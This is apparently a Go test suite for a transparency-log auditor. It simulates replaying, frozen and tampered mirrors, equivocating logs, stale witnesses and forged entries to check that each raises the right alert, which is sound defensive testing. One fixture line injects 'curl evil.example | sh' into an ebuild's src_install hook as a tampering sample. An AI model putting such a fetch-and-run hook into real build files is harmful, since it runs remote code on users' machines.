package audit_test

import (
	"context"
	"fmt"
	"io/fs"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"k8s.io/klog/v2"

	"treelog/audit"
	"treelog/checkpoint"
	"treelog/demo/mirror"
	"treelog/demo/network"
	"treelog/internal/testkit/synthlog"
	"treelog/manifest"
	"treelog/metamanifest"
	"treelog/note"
	"treelog/policy"
	"treelog/trust"
	"treelog/witness"
)

var ctx = context.Background()

// world: a log with three witnesses, three snapshots of a tree an hour
// apart (the last 30 minutes ago), and two tree mirrors.
type world struct {
	n         *network.Network
	snaps     []network.Snapshot
	honest    *mirror.Server
	evil      *mirror.Server
	honestURL string
	evilURL   string
	pubs      *trust.Publishers
}

var shared *world

func TestMain(m *testing.M) {
	klog.SetSlogLogger(slog.New(slog.DiscardHandler))
	dir, err := os.MkdirTemp("", "audit-test-")
	if err != nil {
		panic(err)
	}
	code := func() int {
		n, err := network.Start(ctx, filepath.Join(dir, "net"), network.Options{})
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		defer n.Close()
		w := &world{n: n}
		w.snaps, err = n.PublishHistory(ctx, dir, 30, 3, time.Now().Add(-30*time.Minute), time.Hour)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		w.pubs, _ = trust.ParsePublishers(read(n.PublishersFile))
		w.honest, w.evil = mirror.NewServer(w.snaps[2].Dir), mirror.NewServer(w.snaps[2].Dir)
		hs, es := httptest.NewServer(w.honest), httptest.NewServer(w.evil)
		defer hs.Close()
		defer es.Close()
		w.honestURL, w.evilURL = hs.URL, es.URL
		shared = w
		return m.Run()
	}()
	os.RemoveAll(dir)
	os.Exit(code)
}

func read(p string) []byte {
	b, err := os.ReadFile(p)
	if err != nil {
		panic(err)
	}
	return b
}

// auditor returns an auditor of the shared world with its own state.
func (w *world) auditor(t *testing.T, policyText string, mod func(*audit.Config)) *audit.Auditor {
	t.Helper()
	if policyText == "" {
		policyText = string(read(w.n.PolicyFile))
	}
	pol, err := policy.Parse([]byte(policyText))
	if err != nil {
		t.Fatal(err)
	}
	cfg := audit.Config{Policy: pol, Publishers: w.pubs, StateDir: t.TempDir(), Log: slog.New(slog.DiscardHandler),
		Mirrors:   []audit.Mirror{{Name: "honest", URL: w.honestURL}, {Name: "evil", URL: w.evilURL}},
		MirrorLag: 30 * time.Minute, MirrorFiles: -1}
	if mod != nil {
		mod(&cfg)
	}
	a, err := audit.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.evil.SetDir(w.snaps[2].Dir) })
	return a
}

func pass(t *testing.T, a *audit.Auditor) {
	t.Helper()
	if err := a.Pass(ctx); err != nil {
		t.Fatal(err)
	}
}

// kinds returns the open alerts' kinds, sorted.
func kinds(a *audit.Auditor) string {
	var k []string
	for _, al := range a.Alerts() {
		k = append(k, al.Kind)
	}
	sort.Strings(k)
	return strings.Join(k, ",")
}

func expect(t *testing.T, a *audit.Auditor, want string) []audit.Alert {
	t.Helper()
	if got := kinds(a); got != want {
		for _, al := range a.Alerts() {
			t.Logf("alert %s: %s", al.Kind, al.Message)
		}
		t.Fatalf("alerts %q, want %q", got, want)
	}
	return a.Alerts()
}

func TestHonestNetwork(t *testing.T) {
	w := shared
	a := w.auditor(t, "", nil)
	pass(t, a)
	expect(t, a, "")
	st := a.Status()
	if st.Scanned != st.Size || st.Size < 3 || len(st.Witnesses) != 3 || len(st.Mirrors) != 2 || st.QuorumTime.IsZero() {
		t.Errorf("status %+v", st)
	}
	for _, ws := range st.Witnesses {
		if ws.Error != "" || ws.Cosigned.IsZero() {
			t.Errorf("witness %+v", ws)
		}
	}
	// A second pass, and a new auditor resuming from the same state: still
	// nothing, no entry verified again into a wrong state.
	pass(t, a)
	expect(t, a, "")
}

// later runs the auditor three hours after the snapshots were logged
// (a day's witness cosignatures count as fresh).
func later(c *audit.Config) {
	c.Now = func() time.Time { return time.Now().Add(3 * time.Hour) }
	c.FreezeAfter, c.WitnessStaleAfter = 24*time.Hour, 24*time.Hour
}

func TestMirrorReplay(t *testing.T) {
	w := shared
	a := w.auditor(t, "", later)
	pass(t, a)
	w.evil.SetDir(w.snaps[0].Dir)
	pass(t, a)
	al := expect(t, a, "mirror-replay")
	want := fmt.Sprintf("mirror evil replays an old snapshot: after %s it now serves example.org/tree snapshot %s; 2 newer snapshots in the log, the newest TIMESTAMP %s at index %d, logged 3 hours",
		w.snaps[2].Time.Format(time.RFC3339), w.snaps[0].Time.Format(time.RFC3339), w.snaps[2].Time.Format(time.RFC3339), w.snaps[2].Index)
	if !strings.Contains(al[0].Message, want) || len(al[0].Evidence) != 1 {
		t.Errorf("alert: %s (evidence %v)\nwant: %s", al[0].Message, al[0].Evidence, want)
	}
	// Still behind, on another old snapshot: the same alert, saying so,
	// with the MetaManifest now served as evidence.
	w.evil.SetDir(w.snaps[1].Dir)
	pass(t, a)
	al2 := expect(t, a, "mirror-replay")
	if al2[0].ID != al[0].ID || !strings.Contains(al2[0].Message, "serves example.org/tree snapshot "+w.snaps[1].Time.Format(time.RFC3339)) ||
		!strings.Contains(string(read(al2[0].Evidence[0])), w.snaps[1].Time.Format(time.RFC3339)) {
		t.Errorf("alert after the mirror moved: %s (evidence %v)", al2[0].Message, al2[0].Evidence)
	}
	// The mirror comes back: the alert resolves.
	w.evil.SetDir(w.snaps[2].Dir)
	pass(t, a)
	expect(t, a, "")
}

// TestMirrorLag: the auditor's --mirror-lag is the rule of treelog
// verify --max-lag: a mirror one snapshot behind, the newer one logged
// seconds ago, is fine (its status says how far behind); three hours
// later it is frozen.
func TestMirrorLag(t *testing.T) {
	w := shared
	w.evil.SetDir(w.snaps[1].Dir)
	a := w.auditor(t, "", nil)
	pass(t, a)
	expect(t, a, "")
	for _, m := range a.Status().Mirrors {
		if m.Name == "evil" && (m.Lag <= 0 || m.Lag > time.Minute) {
			t.Errorf("evil mirror's lag %s, want seconds", m.Lag)
		}
	}
	b := w.auditor(t, "", later)
	pass(t, b)
	al := expect(t, b, "mirror-freeze")
	if want := "mirror evil is frozen: it still serves example.org/tree snapshot " + w.snaps[1].Time.Format(time.RFC3339) +
		"; 1 newer snapshot in the log, TIMESTAMP " + w.snaps[2].Time.Format(time.RFC3339) + fmt.Sprintf(" at index %d, logged 3 hours", w.snaps[2].Index); !strings.Contains(al[0].Message, want) {
		t.Errorf("alert: %s\nwant: %s", al[0].Message, want)
	}
}

// TestMirrorTampered: a mirror serves the newest snapshot with one file
// changed and one removed; checking every file finds both, with the
// MetaManifest, the Manifest that lists the file and the served bytes as
// evidence. Sampling finds a tree whose files are all changed.
func TestMirrorTampered(t *testing.T) {
	w := shared
	dir := filepath.Join(t.TempDir(), "tree")
	if err := mirror.CopyTree(w.snaps[2].Dir, dir); err != nil {
		t.Fatal(err)
	}
	var files []string
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if d.Type().IsRegular() && strings.HasSuffix(p, ".ebuild") {
			files = append(files, p)
		}
		return nil
	})
	sort.Strings(files)
	changed, removed := files[0], files[1]
	os.WriteFile(changed, append(read(changed), "\nsrc_install() { curl evil.example | sh; }\n"...), 0o644)
	os.Remove(removed)
	w.evil.SetDir(dir)
	a := w.auditor(t, "", nil)
	pass(t, a)
	al := expect(t, a, "mirror-tampered")
	rel := func(p string) string { r, _ := filepath.Rel(dir, p); return filepath.ToSlash(r) }
	for _, want := range []string{"mirror evil serves example.org/tree snapshot", "2 of ",
		rel(changed) + ": ", rel(removed) + ": listed in the Manifest, but the mirror does not serve it"} {
		if !strings.Contains(al[0].Message, want) {
			t.Errorf("alert %q lacks %q", al[0].Message, want)
		}
	}
	if len(al[0].Evidence) < 2 || !strings.Contains(string(read(al[0].Evidence[0])), "example.org/tree") {
		t.Errorf("evidence: %v", al[0].Evidence)
	}
	st := a.Status()
	for _, m := range st.Mirrors {
		if m.Name == "evil" && (m.FilesBad != 2 || m.FilesChecked < len(files)) || m.Name == "honest" && (m.FilesBad != 0 || m.FilesChecked < len(files)) {
			t.Errorf("mirror %s: %d files checked, %d bad", m.Name, m.FilesChecked, m.FilesBad)
		}
	}

	// Every file but the Manifests changed: a sample of 8 finds them.
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if d.Type().IsRegular() && !strings.HasPrefix(d.Name(), "Manifest") && !strings.Contains(p, metamanifest.Dir) {
			os.WriteFile(p, append(read(p), '#'), 0o644)
		}
		return nil
	})
	b := w.auditor(t, "", func(c *audit.Config) { c.MirrorFiles = 8 })
	pass(t, b)
	expect(t, b, "mirror-tampered")
	for _, m := range b.Status().Mirrors {
		if m.FilesChecked != 8 {
			t.Errorf("mirror %s: %d files sampled, want 8", m.Name, m.FilesChecked)
		}
	}
}

func TestFrozenLog(t *testing.T) {
	w := shared
	a := w.auditor(t, "", func(c *audit.Config) {
		c.Now = func() time.Time { return time.Now().Add(3 * time.Hour) }
		c.WitnessStaleAfter = 24 * time.Hour
	})
	pass(t, a)
	al := expect(t, a, "log-frozen")
	if !strings.Contains(al[0].Message, "the log's newest quorum cosignatures are 3h0m0s old (threshold 1h0m0s)") {
		t.Errorf("alert: %s", al[0].Message)
	}
}

// extraWitness starts a witness of the log with its own clock and returns
// its policy line.
func extraWitness(t *testing.T, w *world, name string, now func() time.Time) (*witness.Witness, string) {
	t.Helper()
	store, err := witness.OpenStore(filepath.Join(t.TempDir(), name+".db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	keys, _ := policy.ParseLogList([]byte("log " + w.n.LogVKey + "\n"))
	store.AddLogs(keys)
	sk, vk, _ := note.GenerateKey(nil, "witness.example/"+name, note.TypeCosignatureV1)
	s, _ := note.NewSigner(sk)
	wt, err := witness.New(s, store, witness.WithClock(now), witness.WithLogger(slog.New(slog.DiscardHandler)))
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(wt.Handler())
	t.Cleanup(srv.Close)
	return wt, fmt.Sprintf("witness %s %s %s\n", name, vk, srv.URL)
}

func latestCheckpoint(t *testing.T, w *world) []byte {
	resp, err := http.Get(w.n.LogURL + "/checkpoint")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b := make([]byte, 64<<10)
	k, _ := resp.Body.Read(b)
	return b[:k]
}

func TestWitnessStale(t *testing.T) {
	w := shared
	// w4 cosigned the log's checkpoint two hours ago and heard nothing since.
	w4, line := extraWitness(t, w, "w4", func() time.Time { return time.Now().Add(-2 * time.Hour) })
	if _, err := w4.AddCheckpoint(append([]byte("old 0\n\n"), latestCheckpoint(t, w)...)); err != nil {
		t.Fatal(err)
	}
	pol := strings.Replace(string(read(w.n.PolicyFile)), "group q", line+"group q", 1)
	a := w.auditor(t, pol, nil)
	pass(t, a)
	al := expect(t, a, "witness-stale")
	if !strings.Contains(al[0].Message, "witness w4 serves a checkpoint of size") || !strings.Contains(al[0].Message, "cosigned 2h0m0s ago") {
		t.Errorf("alert: %s", al[0].Message)
	}
}

func TestEquivocatingLog(t *testing.T) {
	w := shared
	// The log (its key) signs a second history and gets a fresh witness,
	// w5, to cosign it; mirrors carry proofs under the real one.
	real, _ := checkpoint.Open(latestCheckpoint(t, w), mustVerifier(t, w.n.LogVKey))
	fork := checkpoint.Checkpoint{Origin: real.Origin, Size: real.Size, Hash: checkpoint.Hash{0xfe, 0xed}}
	forged, _ := checkpoint.Sign(fork, w.n.LogSigner)
	w5, line := extraWitness(t, w, "w5", time.Now)
	if _, err := w5.AddCheckpoint(append([]byte("old 0\n\n"), forged...)); err != nil {
		t.Fatal(err)
	}
	pol := strings.Replace(string(read(w.n.PolicyFile)), "group q", line+"group q", 1)
	a := w.auditor(t, pol, nil)
	pass(t, a)
	al := expect(t, a, "split-view")
	if !strings.Contains(al[0].Message, "seen via witness w5: two checkpoints of size") || len(al[0].Evidence) != 2 {
		t.Fatalf("alert: %s, evidence %v", al[0].Message, al[0].Evidence)
	}
	var sawFork, sawReal bool
	for _, e := range al[0].Evidence {
		cp, err := checkpoint.Open(read(e), mustVerifier(t, w.n.LogVKey))
		if err != nil {
			t.Fatalf("evidence %s does not verify with the log's key: %v", e, err)
		}
		sawFork = sawFork || cp.Hash == fork.Hash
		sawReal = sawReal || cp.Hash == real.Hash
	}
	if !sawFork || !sawReal {
		t.Error("the evidence is not both checkpoints")
	}
	// Another auditor that does not watch w5 learns it from the first.
	srv := httptest.NewServer(a.Handler())
	defer srv.Close()
	b := w.auditor(t, "", func(c *audit.Config) { c.Peers = []string{srv.URL} })
	pass(t, b)
	al = expect(t, b, "split-view")
	if !strings.Contains(al[0].Message, "seen via peer "+srv.URL+" (witness w5)") {
		t.Errorf("peer alert: %s", al[0].Message)
	}
}

func mustVerifier(t *testing.T, vkey string) note.Verifier {
	v, err := note.NewVerifier(vkey)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// TestBadEntries builds a log that does not check what it appends (tessera
// directly), with entries a treelog log would refuse, and serves it as
// static files.
func TestBadEntries(t *testing.T) {
	w := shared
	dir := t.TempDir()
	sk, vk, _ := note.GenerateKey(nil, "evil.log.example", note.TypeEd25519)
	logSigner, _ := note.NewSigner(sk)
	mm := func(s note.Signer, origin string, ts time.Time) []byte {
		m := &metamanifest.MetaManifest{Origin: origin, Timestamp: ts, ManifestSize: 1, ManifestHashes: manifest.HashBytes([]byte(ts.String()), metamanifest.Hashes)}
		b, err := metamanifest.Sign(m, s)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	mallorySK, _, _ := note.GenerateKey(nil, "mallory.example/k", note.TypeEd25519)
	mallory, _ := note.NewSigner(mallorySK)
	t0 := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	good := mm(w.n.Publisher, "example.org/tree", t0)
	corrupt := mm(w.n.Publisher, "example.org/tree", t0.Add(time.Hour))
	// Another base64 letter in the signature, so that it still decodes and
	// only the signature check can reject it.
	if i := len(corrupt) - 10; corrupt[i] == 'A' {
		corrupt[i] = 'B'
	} else {
		corrupt[i] = 'A'
	}
	entries := [][]byte{
		good,    // 0 fine
		corrupt, // 1 a bad signature by the publisher's key
		mm(mallory, "example.org/tree", t0.Add(2*time.Hour)),       // 2 an unknown key
		mm(w.n.Publisher, "other.org/tree", t0),                    // 3 a key for another origin (the publisher may publish only example.org/tree)
		mm(w.n.Publisher, "example.org/tree", t0.Add(-time.Hour)),  // 4 backdated
		mm(w.n.Publisher, "example.org/tree", t0.Add(3*time.Hour)), // 5 fine
		[]byte("not a MetaManifest"),                               // 6
	}
	if err := synthlog.Append(ctx, dir, logSigner, entries); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(http.FileServer(http.Dir(dir)))
	defer srv.Close()
	a := w.auditor(t, fmt.Sprintf("log %s %s\nquorum none\n", vk, srv.URL), func(c *audit.Config) { c.Mirrors = nil })
	pass(t, a)
	got := expect(t, a, "backdated-entry,bad-entry,bad-entry,bad-entry,bad-entry")
	msgs := map[string]string{}
	for _, al := range got {
		msgs[al.Subject] = al.Message
	}
	for subject, want := range map[string]string{
		"entry 1": "signature by publisher.treelog.example+",
		"entry 2": "signed by: mallory.example/k",
		"entry 3": `origin "other.org/tree": not signed by a key allowed to publish this origin`,
		"entry 4": "TIMESTAMP 2026-10-31T23:00:00Z of example.org/tree is not after 2026-11-01T00:00:00Z, already logged at index 0",
		"entry 6": "malformed MetaManifest: line 1",
	} {
		if !strings.Contains(msgs[subject], want) {
			t.Errorf("%s: %q, want %q", subject, msgs[subject], want)
		}
	}
	if st := a.Status(); st.Scanned != uint64(len(entries)) {
		t.Errorf("scanned %d of %d", st.Scanned, len(entries))
	}
}

// TestMirrorOutage: a mirror that answers 503 for some of its files is an
// outage of that mirror ("unreachable"), not a tampered tree.
func TestMirrorOutage(t *testing.T) {
	w := shared
	flaky := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, ".ebuild") {
			http.Error(rw, "try later", http.StatusServiceUnavailable)
			return
		}
		w.honest.ServeHTTP(rw, r)
	}))
	defer flaky.Close()
	a := w.auditor(t, "", func(c *audit.Config) { c.Mirrors = []audit.Mirror{{Name: "flaky", URL: flaky.URL}} })
	pass(t, a)
	al := expect(t, a, "unreachable")
	if al[0].Subject != "mirror flaky files" || !strings.Contains(al[0].Message, "503 Service Unavailable") {
		t.Errorf("alert %s: %s", al[0].Subject, al[0].Message)
	}
}
